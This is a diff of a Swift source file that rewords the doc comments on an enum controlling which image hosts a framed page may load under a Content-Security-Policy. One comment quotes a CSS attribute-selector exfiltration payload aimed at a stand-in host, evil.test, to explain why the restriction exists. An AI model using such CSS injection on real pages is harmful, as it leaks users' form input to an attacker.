@@ -1,13 +1,13 @@
 /// The images of other hosts that a document in its frame may load.
 ///
-/// An image is a request, so a document that loads them can send out what it holds: a style such as
-/// `input[value^="a"] { background: url(https://evil.test/a) }` asks for another address with each value.
+/// An image is a request, so a page that loads images can reveal its content: a style such as
+/// `input[value^="a"] { background: url(https://evil.test/a) }` requests a different address for each value.
 package enum PageImages: String, Sendable, CaseIterable {
   case none
-  /// Those of any host, by `https:`. The mirror itself speaks `http:`, so no image is a request to it.
+  /// Images of any host, with `https:`. The mirror itself uses `http:`, so no image is a request to the mirror.
   case https
 
-  /// The sources of a `Content-Security-Policy`. Images that are part of the document are shown in any case.
+  /// The sources for a `Content-Security-Policy`. Images inside of the document (`data:`) are always shown.
   var sources: String {
     switch self {
     case .none: "data:"
